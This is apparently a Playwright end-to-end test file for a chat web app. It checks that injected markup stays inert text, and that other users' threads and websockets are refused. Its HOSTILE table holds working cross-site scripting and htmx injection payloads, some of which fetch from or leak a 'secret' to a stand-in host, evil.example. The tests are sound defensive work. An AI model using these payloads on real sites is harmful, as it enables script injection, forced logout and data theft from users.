"""Other people's threads, and texts written to do harm. The numbers are those of the field log."""

from __future__ import annotations

import uuid

import pytest
import websockets
from playwright.async_api import Page, Request, expect

from tests.e2e.conftest import NewPage
from tests.e2e.pages import Chat, credentials, log_out, path_of, post, second_window, sign_up
from tests.e2e.server import Server

EVIL = "https://evil.example"
HOSTILE = {
    "image": f"<img src=x onerror=\"window.harmed=1;fetch('{EVIL}')\">",
    "remote image": f"![secret]({EVIL}/?q=secret) <img src='{EVIL}/pixel.png'>",
    "script": f"<script>window.harmed=1</script><script src='{EVIL}/x.js'></script>",
    "link": "[press me](javascript:harmed=1) <a href='javascript:harmed=1'>me too</a> <javascript:harmed=1>",
    "svg": "<svg onload='harmed=1'><animate onbegin='harmed=1' attributeName=x dur=1s /></svg>",
    "frame": "<iframe srcdoc='<script>parent.harmed=1</script>'></iframe><object data='/logout/'></object>",
    "htmx request": '<div hx-get="/logout/" hx-trigger="load" data-hx-get="/logout/">x</div><b hx-on:load="harmed=1">',
    "htmx swap": '<div id="composer" hx-swap-oob="true">gone</div><hx-partial hx-target="#thread">gone</hx-partial>',
    "form": f'<form action="{EVIL}"><button data-action="send">Send</button></form><style>body{{color:red}}</style>',
    # Echo sends twelve characters at most in one piece: this fence comes in two.
    "fence": "``````````````html\n<img src=x onerror=harmed=1>\n``````````````\n\n```\n</code><svg onload=harmed=1>",
}
# The holder of each block and the frame around code are ours: see chatapp/markdown.py.
OURS = "[data-content] > [data-block], .code, .code__copy, .code__copy *"
FORBIDDEN = ", ".join(
    f"[data-content] {part}:not({OURS})"
    for part in ("img", "script", "style", "svg", "iframe", "object", "form", "input", "button", "hx-partial")
)
ATTRIBUTES = f"""(places) => places.flatMap((place) => [...place.querySelectorAll("*:not({OURS})")])
    .flatMap((element) => element.getAttributeNames())
    .filter((name) => /^(on|hx-|data-|id$|style$|srcdoc$)/.test(name))"""


@pytest.fixture
def requests(page: Page) -> list[Request]:
    """What the page asks for."""
    seen: list[Request] = []
    page.on("request", lambda request: seen.append(request))
    return seen


async def assert_harmless(server: Server, page: Page, requests: list[Request]) -> None:
    """Nothing ran, nothing was fetched, nothing of the page was replaced."""
    assert await page.evaluate("window.harmed") is None
    for request in requests:
        path = request.url.removeprefix(server.url)
        assert path.startswith(("/static/", "/threads/")) or path == "/", request.url
    await expect(page.locator(FORBIDDEN)).to_have_count(0)
    assert await page.locator("[data-content]").evaluate_all(ATTRIBUTES) == []
    assert await page.locator("[data-content] a[href]:not([href^=http]):not([href^=mailto])").count() == 0


async def test_case_87_hostile_text_is_only_text(server: Server, page: Page, requests: list[Request]) -> None:
    """In the message, in the reply while it grows and when it is done, in the title, in the list, after a reload."""
    chat = await Chat.begin(page)
    for count, text in enumerate(HOSTILE.values(), 1):
        await chat.say(text)
        await expect(chat.messages).to_have_count(2 * count)
        assert (await chat.rows())[-2].text == text
        await post(page, f"{page.url}rename/", title=text)
        await expect(page.get_by_role("heading", level=1)).to_have_text(" ".join(text.split()))
        await assert_harmless(server, page, requests)
    await chat.reload()
    await expect(page.locator("form[data-composer]")).to_have_count(1)
    assert [row.text for row in (await chat.rows())[::2]] == list(HOSTILE.values())
    await assert_harmless(server, page, requests)


async def test_case_87_hostile_text_stays_text_in_every_other_place(
    server: Server, page: Page, requests: list[Request]
) -> None:
    """In the edit box, in a failed reply, in a thread's title on the pages beside."""
    text = HOSTILE["script"] + HOSTILE["svg"]
    chat = await Chat.begin(page, "chat")
    await chat.send("/fail " + HOSTILE["image"] + HOSTILE["htmx request"])
    await expect(chat.button("retry")).to_be_visible()
    await assert_harmless(server, page, requests)
    await post(page, f"{page.url}rename/", title=text)
    await chat.reload()
    await expect(page.get_by_role("heading", level=1)).to_have_text(text)
    await expect(page.locator("a[data-thread-link]")).to_have_text(text)
    await expect(await chat.open_edit(0)).to_have_value("/fail " + HOSTILE["image"] + HOSTILE["htmx request"])
    await assert_harmless(server, page, requests)
    link = await chat.message(0).locator("a[href*='/checkpoints/']").get_attribute("href")
    for address in (f"{page.url}delete/", link):
        await page.goto(address)
        await expect(page.get_by_text(text).first).to_be_visible()
        await assert_harmless(server, page, requests)


async def test_case_87_a_message_given_back_is_only_text(server: Server, page: Page, requests: list[Request]) -> None:
    """An edit box whose message goes leaves its text in a notice."""
    chat = await Chat.begin(page)
    await chat.say("a", "b")
    await (await chat.open_edit(2)).fill(HOSTILE["image"] + HOSTILE["htmx request"])
    await chat.regenerate(1)
    await expect(page.get_by_text(HOSTILE["image"])).to_be_visible()
    await assert_harmless(server, page, requests)


async def test_case_88_a_remote_image_is_a_link_that_one_may_follow(page: Page) -> None:
    chat = await Chat.begin(page)
    await chat.say(f"![secret]({EVIL}/?q=secret)")
    link = chat.message(1).get_by_role("link", name="secret")
    await expect(link).to_have_attribute("href", f"{EVIL}/?q=secret")
    assert {"noopener", "noreferrer"} <= set((await link.get_attribute("rel")).split())


async def test_case_82_a_foreign_thread_does_not_exist(page: Page, other_page: Page) -> None:
    """Each address of it answers as that of a thread that never was, and nothing of it changes."""
    chat = await Chat.begin(page, "chat")
    await chat.say("/long 5")
    await chat.send("/long 3000")
    theirs, missing = page.url, f"{page.url[:-37]}{uuid.uuid4()}/"
    addresses = {
        "stop": await chat.button("stop").get_attribute("formaction"),
        "edit": await chat.message(0).locator("form[action$='/edit/']").get_attribute("action"),
        "replay": await chat.message(1).locator("form[action$='/replay/']").get_attribute("action"),
        "link": await chat.message(1).locator("a[href*='/checkpoints/']").get_attribute("href"),
    }
    within = {name: address.removeprefix(path_of(theirs)) for name, address in addresses.items()}
    looks = ("", "delete/", within["edit"], within["link"])
    commands = ("messages/", "head/", "head/undo/", "runs/", "rename/", "delete/")
    commands += (within["edit"], within["replay"], within["stop"])
    everything = {"content": "x", "title": "x", "message": within["edit"].split("/")[1]}
    assert all([(await page.request.get(theirs + path)).ok for path in looks])
    mine = (await Chat.begin(other_page)).page.url
    for thread in (theirs, missing):
        for path in looks:
            assert (await other_page.request.get(thread + path)).status == 404, path
        for path in commands:
            assert (await post(other_page, thread + path, **everything)).status == 404, path
    # One's own thread, with what belongs to the other.
    for path in (within["edit"], within["replay"], within["stop"]):
        assert (await post(other_page, mine + path, **everything)).status == 404, path
    assert (await other_page.request.get(mine + within["link"])).status == 404
    for there in ({"message": within["edit"].split("/")[1]}, {"checkpoint": within["link"].split("/")[1]}):
        assert (await post(other_page, f"{mine}head/", **there)).status == 404, there
    await expect(chat.live).to_be_visible()
    await chat.stop()
    assert [row.text for row in await chat.rows() if row.role == "human"] == ["/long 5", "/long 3000"]
    await expect(page.locator("a[data-thread-link]")).to_have_text("/long 5")


async def test_case_82_a_foreign_socket_is_closed_and_hears_nothing(
    server: Server, page: Page, other_page: Page
) -> None:
    chat = await Chat.begin(page)
    await chat.say("a")
    await Chat.begin(other_page)
    _, stranger = await credentials(other_page)
    _, owner = await credentials(page)
    address = f"{server.url.replace('http', 'ws')}/ws/threads/"
    thread = page.url.split("/")[-2]
    assert await _first(address + thread + "/", owner, server.url) == "a transcript"
    assert await _first(address + thread + "/", stranger, server.url) == 4404
    assert await _first(f"{address}{uuid.uuid4()}/", stranger, server.url) == 4404
    assert await _first(address + thread + "/", "", server.url) == 4401
    assert await _first(address + thread + "/", owner, EVIL) == 4403


async def test_case_82_who_has_logged_out_sees_nothing_more(
    page: Page, new_page: NewPage, server: Server, allowed_problems: list[str]
) -> None:
    await sign_up(page)
    chat = await Chat.begin(page)
    await chat.say("a")
    other = await second_window(chat, new_page)
    _, before = await credentials(page)
    thread = page.url.split("/")[-2]
    await log_out(page)
    assert await _first(f"{server.url.replace('http', 'ws')}/ws/threads/{thread}/", before, server.url) == 4401
    allowed_problems.append("status of 40[34]")
    await expect(other.main).to_have_attribute("data-connection", "offline")  # it hears nothing more either
    await other.composer.fill("b")
    await other.composer.press("Enter")
    await expect(other.page.get_by_text("The server could not do this.")).to_be_visible()
    await expect(other.composer).to_have_value("b")
    assert (await other.page.reload()).status == 404


async def _first(address: str, cookie: str, origin: str) -> str | int:
    """What a socket gets: a transcript, else the code with which it is closed."""
    try:
        async with websockets.connect(address, origin=origin, additional_headers={"Cookie": cookie}) as socket:
            return "a transcript" if 'id="transcript"' in await socket.recv() else ""
    except websockets.exceptions.ConnectionClosed as closed:
        return closed.rcvd.code
